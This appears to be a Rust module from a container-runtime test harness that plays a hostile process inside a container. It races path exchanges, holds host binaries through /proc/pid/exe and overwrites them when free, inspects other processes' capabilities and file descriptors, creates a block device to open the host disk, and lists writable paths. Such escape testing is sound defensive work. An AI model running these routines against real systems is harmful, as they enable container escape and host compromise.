//! What a hostile process inside a container does, over and over, until it is killed.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use serde_json::json;

use crate::{field, say, sys};

/// Exchanges pairs of paths as fast as the kernel does it.
pub(crate) fn exchange(paths: &[String]) -> ! {
    sys::be_nice();
    let paths: Vec<CString> =
        paths.iter().map(|path| CString::new(path.as_str()).expect("no NUL")).collect();
    let exchange_all = || {
        for pair in paths.chunks_exact(2) {
            sys::exchange(&pair[0], &pair[1]).expect("exchange");
        }
    };
    exchange_all();
    say("ready");
    loop {
        exchange_all();
    }
}

/// Keeps every program open that a process executes and that is not the image's, and opens each for writing
/// as soon as nobody executes it any more. Prints what was found, and 'wrote' when something was written.
pub(crate) fn open_programs() -> ! {
    say("ready");
    let mut held: Vec<Held> = Vec::new();
    loop {
        for program in strange_programs() {
            if held.iter().all(|known| known.inode != program.inode) && held.len() < 64 {
                say(&format!("found {}", program.words()));
                held.push(program);
            }
        }
        held.retain(|program| !program.overwritten());
        std::thread::yield_now();
    }
}

/// A program that is open. What its name says depends on who looks, and from where; its device and inode are
/// those of the host's file.
struct Held {
    name: PathBuf,
    inode: (u64, u64),
    file: File,
}

fn strange_programs() -> Vec<Held> {
    let strange = |pid: String| {
        let link = format!("/proc/{pid}/exe");
        let name = fs::read_link(&link).ok()?;
        if name.starts_with("/bin") {
            return None;
        }
        let file = File::open(link).ok()?;
        let stat = file.metadata().ok()?;
        Some(Held { name, inode: (stat.dev(), stat.ino()), file })
    };
    pids().filter_map(strange).collect()
}

impl Held {
    fn words(&self) -> String {
        format!("{}:{} {}", self.inode.0, self.inode.1, self.name.display())
    }

    /// The file may be executed all the time: then it cannot be opened for writing, and stays held.
    fn overwritten(&self) -> bool {
        let again = format!("/proc/self/fd/{}", self.file.as_raw_fd());
        let Ok(mut file) = OpenOptions::new().append(true).open(again) else { return false };
        match file.write_all(b"overwritten") {
            Ok(()) => say(&format!("wrote {}", self.words())),
            Err(error) => say(&format!("opened {}: {error}", self.words())),
        }
        true
    }
}

fn pids() -> impl Iterator<Item = String> {
    let names = fs::read_dir("/proc").expect("procfs").flatten();
    names
        .filter_map(|entry| entry.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
}

/// Looks into each new process as long as it is there; prints what it saw of it, as one line of JSON. The first
/// line is about itself.
pub(crate) fn loot() -> ! {
    let own = std::process::id();
    let mut itself = Seen::default();
    itself.look(own);
    itself.print(own);
    say("ready");
    let mut next = own + 1;
    loop {
        match (next..next + 8).find(|&pid| look_into(pid)) {
            Some(pid) => next = pid + 1,
            None => std::thread::yield_now(),
        }
    }
}

/// False when nobody is there.
fn look_into(pid: u32) -> bool {
    let mut seen = Seen::default();
    let begin = Instant::now();
    while seen.look(pid) && begin.elapsed() < Duration::from_secs(1) {}
    let there = seen != Seen::default();
    if there {
        seen.print(pid);
    }
    there
}

/// All that was ever seen of a process.
#[derive(Default, PartialEq)]
struct Seen {
    /// What it executed, or why that was not to be seen.
    programs: BTreeSet<String>,
    descriptors: BTreeSet<String>,
    /// Its user ids, and permitted and effective capabilities.
    credentials: BTreeSet<(String, String, String)>,
}

impl Seen {
    /// First what is there for the shortest time. False when it has ended.
    fn look(&mut self, pid: u32) -> bool {
        let program = match fs::read_link(format!("/proc/{pid}/exe")) {
            Ok(program) => program.display().to_string(),
            Err(error) => match error.raw_os_error().map(Errno::from_raw) {
                Some(Errno::ENOENT | Errno::ESRCH) => return false,
                Some(errno) => format!("{errno:?}"),
                None => error.to_string(),
            },
        };
        self.programs.insert(program);
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let [uid, permitted, effective] =
            ["Uid", "CapPrm", "CapEff"].map(|name| field(&status, name).to_string());
        if !uid.is_empty() {
            self.credentials.insert((uid, permitted, effective));
        }
        let open = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
        let targets = open.filter_map(|entry| fs::read_link(entry.path()).ok());
        self.descriptors.extend(targets.map(|target| target.display().to_string()));
        true
    }

    fn print(&self, pid: u32) {
        let line = json!({
            "pid": pid,
            "programs": self.programs,
            "descriptors": self.descriptors,
            "credentials": self.credentials,
        });
        say(&line.to_string());
    }
}

/// Makes a block device of these numbers and opens it; prints what came of each.
pub(crate) fn open_device(numbers: &[String]) {
    let number = |text: &String| text.parse::<u64>().expect("a device number");
    let device = makedev(number(&numbers[0]), number(&numbers[1]));
    let made = mknod("/disk", SFlag::S_IFBLK, Mode::from_bits_truncate(0o600), device);
    let errno =
        |result: Result<(), Errno>| result.err().map_or("ok".into(), |it| format!("{it:?}"));
    println!("made {}", errno(made));
    let opened = nix::fcntl::open("/disk", nix::fcntl::OFlag::O_RDONLY, Mode::empty());
    println!("opened {}", errno(opened.map(drop)));
}

/// Prints each file below `dir` that can be opened for writing, and each directory in which one can be made.
pub(crate) fn print_writable(dir: &Path) {
    writable(dir);
    println!("looked");
}

fn writable(dir: &Path) {
    let below = fs::read_dir(dir).into_iter().flatten().flatten();
    for entry in below {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => writable(&path),
            Ok(kind) if kind.is_file() && OpenOptions::new().write(true).open(&path).is_ok() => {
                println!("{}", path.display());
            }
            _ => {}
        }
    }
    let new = dir.join("of-the-container");
    if fs::create_dir(&new).is_ok() {
        println!("{}", new.display());
        let _not_ours_to_keep = fs::remove_dir(&new);
    }
}
